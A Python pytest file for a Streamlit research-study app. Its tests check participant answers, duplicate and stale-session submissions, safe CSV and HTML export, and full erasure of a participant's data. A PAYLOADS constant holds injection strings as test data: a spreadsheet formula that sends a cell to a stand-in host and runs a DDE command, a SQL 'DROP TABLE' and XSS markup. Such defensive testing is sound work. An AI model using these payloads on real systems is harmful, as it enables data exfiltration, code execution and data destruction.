"""What a participant may write, send again, and take away with them, through the real page."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from sqlalchemy import inspect, text
from streamlit.testing.v1 import AppTest

from journeys.store import Store
from journeys.study.analysis import analyse
from journeys.study.bundle import write_bundle
from journeys.study.default_design import default_design
from journeys.study.from_store import long_format
from journeys.study.own_copy import copy_csv
from journeys.study.report import report_html
from journeys.study.tokens import NOT_VALID
from journeys.timeline import ActivityLog
from tests.logs import make_log
from tests.pages.test_participate_page import arrive, press
from tests.pages.test_participate_page import text as shown
from tests.study_world import StudyWorld, open_study

DESIGN = replace(default_design(), journeys=2, repeats=0.0, foils_share=0.0)
PAYLOADS = (
    "=HYPERLINK(\"http://x.example/?\"&A1,cmd|' /C calc'!A0)",
    "@'); DROP TABLE study;--<img src=x onerror=alert(1)>[a](javascript:alert(1)) :smile: $x$",
)


@pytest.fixture
def world(store: Store, woken: list[str]) -> StudyWorld:
    return open_study(store, DESIGN)


def walk(app: AppTest, words: Callable[[str], str]) -> AppTest:
    """The whole way to the corrections, with words of one's own in every field there is."""
    texts = DESIGN.texts
    press(app, "I agree and take part")
    app.text_area[0].set_value(words("stated")).run()
    press(app, "Go on")
    press(app, "Yes, this is mine")
    for at in range(len(app.radio)):
        app.radio[at].set_value(4).run()
    press(app, "Go on")
    for number in range(2):
        app.radio[0].set_value("all").run()
        app.radio[1].set_value(4).run()
        for label in (texts.since, texts.own_words):
            for version in ("old", "new"):
                box = next(box for box in app.text_input if box.label == label)
                box.set_value(words(f"{version} {label} {number}")).run()
                assert not app.exception
        press(app, "Go on" if number else "Next journey")
    app.text_input[0].set_value(words("missing")).run()
    for button in app.button:
        if button.label == "Add it":
            button.click().run()
            break
    assert not app.exception
    return app


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_written_is_text_wherever_it_goes(world: StudyWorld, payload: str) -> None:
    app = walk(arrive(invitation=world.tokens[0]), lambda _: payload)
    take, who = world.store.participation, world.enter()
    records = take.answers(who)
    assert take.stated(who) == (payload,)
    assert {r.answers.own_words for r in records} == {r.answers.since for r in records} == {payload}
    missing = next(c for c in take.corrections(who) if c.kind == "missing")
    assert missing.words == payload
    assert payload not in "".join(str(e.value) for e in [*app.markdown, *app.caption, *app.info])

    data = long_format(world.store.study_results.participants(world.study_id), {1: who.design})
    files = [copy_csv(records).decode()]
    with zipfile.ZipFile(io.BytesIO(write_bundle(data))) as archive:
        files += [archive.read(n).decode() for n in archive.namelist() if n.endswith(".csv")]
    cells = [cell for file in files for row in csv.reader(io.StringIO(file)) for cell in row]
    assert sum(payload in cell for cell in cells) >= 4
    assert not any(cell.startswith(("=", "@", "+", "\t")) for cell in cells)
    report = str(report_html(analyse(data), title=payload))
    assert "<img" not in report
    assert world.store.studies.list(), "no table was dropped"


@pytest.mark.parametrize("trick", ["withdraw", "revoke", "erase", "close"])
def test_a_session_left_open_saves_nothing_afterwards(world: StudyWorld, trick: str) -> None:
    """As on a second device, or a form that is sent again."""
    app = arrive(invitation=world.tokens[0])
    press(app, "I agree and take part")
    press(app, "Go on")
    press(app, "Yes, this is mine")
    press(app, "Go on")
    app.radio[0].set_value("all").run()
    who = world.enter(0)
    {
        "withdraw": lambda: world.store.participation.withdraw(who),
        "revoke": lambda: world.store.invitations.revoke(who.invitation_id),
        "erase": lambda: world.store.participation.erase(who),
        "close": lambda: world.store.studies.close(world.study_id),
    }[trick]()
    before = rows(world.store)
    app.radio[1].set_value(4).run()
    assert not app.exception, "a sentence, and no error box"
    after = rows(world.store)
    assert after == before
    if trick in ("revoke", "erase"):
        assert NOT_VALID in shown(app).replace("\\", "")
        assert not app.radio


def test_an_answer_that_is_sent_twice_is_one(world: StudyWorld) -> None:
    first = arrive(invitation=world.tokens[0])
    for label in ("I agree and take part", "Go on", "Yes, this is mine", "Go on"):
        press(first, label)
    second = arrive(invitation=world.tokens[0])
    for app in (first, second, first, second):
        app.radio[0].set_value("all").run()
        app.radio[1].set_value(4).run()
        assert not app.exception
    (record,) = world.store.participation.answers(world.enter())
    assert record.answers.identification == 4


MARKS = ("zanzibarquokka", "ytterbiumlynx")


def marked() -> ActivityLog:
    """A log whose first person's titles hold a word that no other's do."""
    frame = make_log(users=2).frame.copy()
    mine = frame["user_id"] == "user0"
    frame.loc[mine, "title"] = frame.loc[mine, "title"] + f" {MARKS[0]}"
    return ActivityLog(frame)


def test_erasing_leaves_no_trace_anywhere(store: Store, woken: list[str], home: Path) -> None:
    """A complete path, then the page's own button; then every table and every file is searched."""
    world = open_study(store, DESIGN, log=marked())
    pseudonyms = {p.id: p.pseudonym for p in store.logs.people(world.log_id)}
    (mine,) = [
        at
        for at, person in enumerate(world.people)
        if any(MARKS[0] in title for title in store.logs.timeline(person).titles)
    ]
    other = walk(arrive(invitation=world.tokens[1 - mine]), lambda part: f"{part} othermark")
    app = walk(arrive(invitation=world.tokens[mine]), lambda part: f"{part} {MARKS[1]}")
    app.checkbox[0].check().run()
    while not any(button.label == "Finish" for button in app.button):
        press(app, "Go on")
    press(app, "Finish")
    token_hash = world.enter(mine).token_hash
    signs = [*(m.encode() for m in MARKS), pseudonyms[world.people[mine]].encode(), token_hash]
    before = everything(store, home)
    assert all(sign in before for sign in signs), "they are there to be found"
    next(box for box in app.checkbox if box.label.startswith("Yes, erase")).check().run()
    assert "beyond the reach of this page" in shown(app)
    press(app, "Erase everything")
    assert "beyond the reach of this page" in shown(app)
    assert MARKS[1] not in repr(app.session_state)
    left = everything(store, home)
    for sign in signs:
        assert sign not in left, sign
    assert b"othermark" in left
    with store.engine.connect() as connection:
        people = connection.scalar(
            text("SELECT count(*) FROM person WHERE id = :id"), {"id": world.people[mine]}
        )
        orphans = connection.scalar(
            text("SELECT count(*) FROM vector WHERE key NOT IN (SELECT text_key FROM event)")
        )
    assert (people, orphans) == (0, 0)
    assert "Anything to put right?" in shown(other.run()), "the other goes on"


def everything(store: Store, home: Path) -> bytes:
    """All cells of all tables, then all files in the data folder, names included."""
    found = []
    with store.engine.connect() as connection:
        for table in inspect(store.engine).get_table_names():
            for row in connection.execute(text(f"SELECT * FROM {table}")):
                found += [c if isinstance(c, bytes) else str(c).encode() for c in row]
    for path in sorted(home.rglob("*")):
        found.append(str(path).encode())
        if path.is_file():
            content = path.read_bytes()
            found += [content, content.replace(b"\0", b"")]
    return b"\n".join(found)


def rows(store: Store) -> dict[str, list[tuple[object, ...]]]:
    """What participants said. (That a page was opened may be noted.)"""
    tables = ("study_answer", "stated_journey", "study_items", "correction", "consent")
    with store.engine.connect() as connection:
        return {
            table: [tuple(row) for row in connection.execute(text(f"SELECT * FROM {table}"))]
            for table in tables
        }
